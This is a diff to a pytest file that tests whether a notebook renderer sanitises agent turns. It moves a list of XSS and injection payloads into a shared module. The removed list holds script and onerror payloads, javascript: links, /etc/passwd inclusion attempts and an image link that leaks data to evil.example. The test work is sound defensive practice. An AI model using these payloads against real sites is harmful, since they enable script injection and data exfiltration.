@@ -7,6 +7,7 @@ import sys
 from pathlib import Path
 
 import pytest
+from hostile import HOSTILE, aimed, read_h5sc, turn_of
 from html_whitelist import read_strictly
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
@@ -17,45 +18,12 @@ from createagents_nb.notebook.clean_text import clean_text
 from createagents_nb.notebook.code_color import LANGUAGES, color_code
 from createagents_nb.notebook.links import is_safe_href
 from createagents_nb.notebook.maths import is_safe_tex
-from createagents_nb.notebook.snapshot import Block, ReasoningBlock, TextBlock, ToolLine, TurnSnapshot
+from createagents_nb.notebook.snapshot import TextBlock, TurnSnapshot
 from createagents_nb.notebook.static_bundle import render_bundle, render_markdown_html
 
 DATA = Path(__file__).resolve().parents[1].parent / "shared" / "data"
 
-HOSTILE = [
-    "<script>window.__xss=1</script>",
-    "<img src=x onerror=alert(1)>",
-    '<a href="https://x" data-commandlinker-command="notebook:run-all-cells">x</a>',
-    '<div id="x" class="jp-ToolbarButton" style="position:fixed;inset:0">x</div>',
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    "</div></div></pre></code></details><script>alert(1)</script>",
-    "<!-- --><![CDATA[ x ]]><?php x ?><!DOCTYPE x>",
-    "[x](javascript:alert(1)) [x](JaVaScRiPt&colon;alert(1)) [x](java\nscript:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](file:///etc/passwd) [x](//evil.example/x)",
-    "<javascript:alert(1)> <data:text/html,x> [x]: y",
-    "[a]\n\n[a]: javascript:alert(1) 'title'",
-    '[a](https://x "<img src=x onerror=alert(1)>\\") [b](https://y \'" onclick="alert(1)\')',
-    "![x](https://evil.example/leak?d=secret) ![](http://x) ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
-    "[![x](https://evil.example/p.png)](https://evil.example) ![[x](javascript:alert(1))](https://x)",
-    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]-->B; click A href "javascript:alert(1)"\n```',
-    '```python" onload="alert(1)\nx\n```\n\n~~~"><script>alert(1)</script>\nx\n~~~',
-    "```{=html}\n<script>alert(1)</script>\n```\n\n`<b>`{=html}",
-    "$\\href{javascript:alert(1)}{x}$ \\(\\cssId{x}{y}\\)",
-    "\\(\\style{background:url(//evil.example)}{x}\\) $$\\require{html}\\data{x}{y}$$",
-    "$\\def\\x{\\x\\x}\\x$ $\\unicode{60}$ $\\class{jp-x}{y}$ $\\bbox[url(//x)]{y}$ $^^5cinput{/etc/passwd}$",
-    "$</span><script>alert(1)</script>$ $$<img src=x onerror=alert(1)>$$",
-    "``` a``\\\\( ``` `\\\\) <img src=x onerror=alert(1)>`",
-    "``` a``\\begin{x} ``` `\\end{x} <img src=x onerror=alert(1)>`",
-    "- - ```\n    $\n    ```\n- ```\n  $\n  <img src=x onerror=alert(1)>\n  ```",
-    "$$\n~~~\n$$\n\n```\n~~~\n<img src=x onerror=alert(1)>\n```",
-    "~~~~x~~~~\n\n```\n~~~~\n<script>alert(1)</script>\n```",
-    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x202e;x &#27;[31m",
-    "{{< include /etc/passwd >}} :::{.x}\n:::\n\\input{/etc/passwd}",
-    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x1b[2J\x9b31m",
-    "abc\u202egnp.exe \u2066x\u2069 zero\u200bwidth \U000e0041\U000e0042 \ud800",
-    "| a | b |\n|---|---|\n| <script>x</script> | [x](javascript:x) `|` $|$ |",
-]
+PAYLOADS = [aimed(payload) for payload in HOSTILE]
 
 
 def corpus(name: str) -> list[dict[str, object]]:
@@ -64,32 +32,6 @@ def corpus(name: str) -> list[dict[str, object]]:
         pytest.skip(f"shared/data is missing: put {name} into {DATA}")
     found: list[dict[str, object]] = json.loads(file.read_text("utf-8"))
     return found
-
-
-def turn_of(payload: str, blocks: tuple[Block, ...] = ()) -> TurnSnapshot:
-    """A turn that says ``payload`` through every channel there is."""
-    line = ToolLine(
-        tool_call_id=payload, name=payload, arguments=payload, status="error", latency_s=0.1, result=payload
-    )
-    return TurnSnapshot(
-        call_id=payload,
-        agent=payload,
-        provider="openai",
-        model=payload,
-        status="error",
-        blocks=blocks
-        or (
-            ReasoningBlock(payload),
-            TextBlock(payload),
-            TextBlock(f"```python\n{payload}\n```\n\n`{payload}`\n\n    {payload}"),
-            line,
-            ToolLine(tool_call_id="2", name="f", arguments=json.dumps({payload: payload}), result=payload),
-            TextBlock(f"> - {payload}\n\n${payload}$\n\n| {payload} |\n|---|\n\n[{payload}](https://x.example)"),
-        ),
-        error_type=payload,
-        error_text=payload,
-        record={"call": {"prompt": payload, payload: payload}},
-    )
 
 
 def assert_harmless(turn: TurnSnapshot) -> None:
@@ -119,19 +61,19 @@ def assert_inert(markdown: str) -> None:
         assert token.type != "fence" or token.info in ("", *LANGUAGES.values()), markdown
 
 
-@pytest.mark.parametrize("payload", HOSTILE)
+@pytest.mark.parametrize("payload", PAYLOADS)
 def test_nothing_hostile_survives_in_any_channel(payload: str) -> None:
     assert_harmless(turn_of(payload))
 
 
-def test_nothing_of_the_xss_corpus_survives_in_any_channel() -> None:
-    for case in corpus("xss-h5sc.json"):
-        assert_harmless(turn_of(str(case["payload"]).replace("{BEACON}", "http://127.0.0.1:1")))
+def test_nothing_of_the_xss_corpus_survives_in_any_channel(shared_data: Path) -> None:
+    for case in read_h5sc(shared_data):
+        assert_harmless(turn_of(case.payload))
 
 
 def test_two_neighbours_cannot_hide_half_a_payload_each() -> None:
-    for first in HOSTILE:
-        assert_harmless(turn_of(f"{first}\n{HOSTILE[0]}\n\n{first} {HOSTILE[1]}"))
+    for first in PAYLOADS:
+        assert_harmless(turn_of(f"{first}\n{PAYLOADS[0]}\n\n{first} {PAYLOADS[1]}"))
 
 
 def test_every_commonmark_example_is_rendered_within_the_whitelist() -> None:
@@ -157,7 +99,7 @@ def test_plain_commonmark_examples_come_out_as_the_specification_says() -> None:
 
 FRAGMENTS = st.sampled_from(
     [
-        *HOSTILE,
+        *PAYLOADS,
         *"`*_~[]()<>!$\\|#-+=:&{}\n\"'/ ",
         *(
             "```",
